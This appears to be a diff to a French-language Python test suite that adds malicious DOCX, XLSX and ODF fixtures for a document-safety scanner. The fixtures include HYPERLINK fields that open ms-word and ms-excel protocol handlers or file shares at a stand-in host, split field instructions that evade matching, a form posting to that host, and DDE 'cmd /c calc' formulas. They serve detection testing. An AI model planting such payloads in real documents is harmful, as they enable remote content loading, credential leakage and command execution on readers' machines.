@@ -16,6 +16,24 @@ CONNEXIONS = (
     '<connections><connection refreshOnLoad="1"><webPr url="https://pirate.test"/></connection></connections>'
 )
 
+_DEBUT, _FIN = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
+QUOTE = 'QUOTE "ms-word:a"'
+
+
+def _champ(instruction: str) -> str:
+    return f"{_DEBUT}<w:instrText>{instruction}</w:instrText>{_FIN}"
+
+
+LIENS_HONNETES = "".join(
+    _champ(f"HYPERLINK {suite}")
+    for suite in (
+        r'\l "ms-word:a"',
+        r'"https://a.test" \o "Attention: lire"',
+        '"mailto:a@b.test"',
+        r"Annexe\\1.pdf",
+    )
+)
+
 
 def _relation(nature: str, cible: str = "a") -> str:
     return relations(f'Id="r9" Type="{RELATIONS}/{nature}" Target="{cible}"')
@@ -45,6 +63,19 @@ _DOCX: dict[str, dict[str, bytes | str]] = {
     "champ en utf-16 sans marque": {"word/a": DDE.encode("utf-16-be")},
     "champ après des blancs": {"word/a": " " * 5_000 + DDE},
     "champ d’un script": {"word/document.xml": DDE.replace("DDEAUTO cmd", "HYPERLINK vnd.sun.star.script:x")},
+    **{
+        f"champ de lien {cas}": {"word/document.xml": f"<w:p {W}>{corps}</w:p>"}
+        for cas, corps in {
+            "vers un programme": _champ('HYPERLINK "ms-word:ofe|u|https://pirate.test/a.docx"'),
+            "vers un partage": _champ('HYPERLINK "file://pirate.test/a"'),
+            "sans guillemets": _champ("HYPERLINK ms-excel:a"),
+            "après une infobulle": _champ('HYPERLINK \\o "Lire" "ms-word:a"'),
+            "coupé": _champ('HYPER</w:instrText><w:instrText>LINK "ms-</w:instrText><w:instrText>word:a"'),
+            "simple": '<w:fldSimple w:instr="HYPERLINK &quot;ms-word:a&quot;"/>',
+            "jamais fini": _champ('HYPERLINK "ms-word:a"').removesuffix(_FIN),
+            "composé": f"{_DEBUT}<w:instrText>HYPERLINK </w:instrText>{_champ(QUOTE)}{_FIN}",
+        }.items()
+    },
     "relation en capitales": {"word/_rels/document.xml.RELS": relations(externe("oleObject"))},
     "relation ailleurs": {"word/a.xml": relations(externe("image"))},
     "relation en utf-16": {"word/_rels/a.xml.rels": relations(externe("image")).encode("utf-16")},
@@ -85,6 +116,7 @@ _XLSX: dict[str, dict[str, bytes | str]] = {
     "fonction web coupée": {"xl/a.xml": _formule("WEB<b/>SERVICE (A1)")},
     "fonction web en condition": {"xl/a.xml": _formule("WEBSERVICE(A1)", "formula1")},
     "fonction web nommée": {"xl/a.xml": _formule("WEBSERVICE(A1)", "definedName")},
+    "fonction de lien": {"xl/a.xml": _formule('HYPERLINK("ms-excel:ofe|u|https://pirate.test/a.xlsx";"a")')},
     "fonction dde": {"xl/a.xml": _formule('DDE("cmd";"/c calc";"a")')},
     "dde": {"xl/a.xml": _formule("cmd|'/c calc'!A0")},
     "dde, apostrophe doublée": {"xl/a.xml": _formule("cmd|'/c ''calc'''!A0")},
@@ -112,6 +144,11 @@ _ODF = {
     ),
     "instance de formulaire": ("odt", '<xforms:instance xmlns:xforms="x" src="https://pirate.test/a.xml"/>'),
     "image d’un bouton": ("odt", '<form:image xmlns:form="f" form:image-data="\\\\pirate.test\\a.png"/>'),
+    "envoi d’un formulaire": (
+        "odt",
+        '<xforms:submission xmlns:xforms="x" action="https://pirate.test" method="post"/>',
+    ),
+    "fonction de lien": ("ods", "<table:table-cell table:formula='of:=HYPERLINK(\"ms-word:a\")'/>"),
     "macro": ("odt", '<text:execute-macro text:name="x"/>'),
 }
 # What their reader fetches or runs: it must be refused, and the judge of served copies must see it.
